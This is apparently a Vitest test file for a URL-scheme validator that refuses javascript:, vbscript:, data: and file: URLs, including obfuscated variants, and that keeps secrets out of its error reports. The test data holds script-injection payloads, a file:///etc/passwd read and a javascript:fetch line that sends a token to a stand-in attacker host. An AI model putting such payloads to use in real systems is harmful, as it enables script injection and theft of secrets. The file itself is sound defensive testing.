import { describe, expect, it } from "vitest";
import { integrationDefinitions } from "./registry";
import { integrationUrlIssues, isUrlVariableName, urlProblem } from "./url-scheme";

describe("urlProblem", () => {
  it.each([
    "javascript:alert(1)",
    "JavaScript:alert(1)",
    " \tjava\nscript:alert(1)",
    "\u0001\u0000javascript:alert(1)",
    "file:///etc/passwd",
    "data:text/html,<script>alert(1)</script>",
    "ftp://files.example.com/x",
    "ftp://{{Host}}/x",
    "vbscript:msgbox(1)",
  ])("refuses %j by its scheme", (text) => {
    expect(urlProblem(text)?.kind).toBe("scheme");
    expect(urlProblem(text, { complete: false })?.kind).toBe("scheme");
  });

  it.each(["https://hooks.example.com/x", "http://127.0.0.1:9/unused", "HTTPS://EXAMPLE.COM", "{{ApiUrl}}/alerts", ""])(
    "accepts %j",
    (text) => expect(urlProblem(text)).toBeNull(),
  );

  it("refuses text that is no absolute URL at save, but lets a half-typed one through a preview", () => {
    for (const text of ["hooks.example.com/x", "https://", "http://exa mple.com"]) {
      expect(urlProblem(text)?.kind, text).toBe("invalid");
      expect(urlProblem(text, { complete: false }), text).toBeNull();
    }
  });
});

describe("URL fields of the catalogue", () => {
  it("names every URL variable …Url, and nothing else so", () => {
    for (const definition of Object.values(integrationDefinitions)) {
      for (const variable of definition.variables) {
        expect(isUrlVariableName(variable.name), `${definition.type}.${variable.name}`).toBe(
          /\bURL\b/.test(variable.label),
        );
      }
    }
  });

  it("ships defaults and preset steps that pass the check", () => {
    for (const definition of Object.values(integrationDefinitions)) {
      const defaults = Object.fromEntries(definition.variables.map((v) => [v.name, v.defaultValue ?? ""]));
      const customizations =
        definition.transport === "http" ? { stepDefinitions: [...definition.defaultStepDefinitions] } : null;
      expect(integrationUrlIssues({ variables: defaults, customizations }), definition.type).toEqual([]);
    }
  });

  it("names the field and never repeats a secret URL", () => {
    const issues = integrationUrlIssues({
      variables: { ApiUrl: "file:///etc/passwd", Other: "ftp://not-a-url-field" },
      secrets: { WebhookUrl: "javascript:fetch('https://evil.example/?token-123')" },
    });
    expect(issues.map((i) => i.path)).toEqual(["variables.ApiUrl", "secrets.WebhookUrl"]);
    expect(JSON.stringify(issues)).not.toContain("token-123");
  });
});
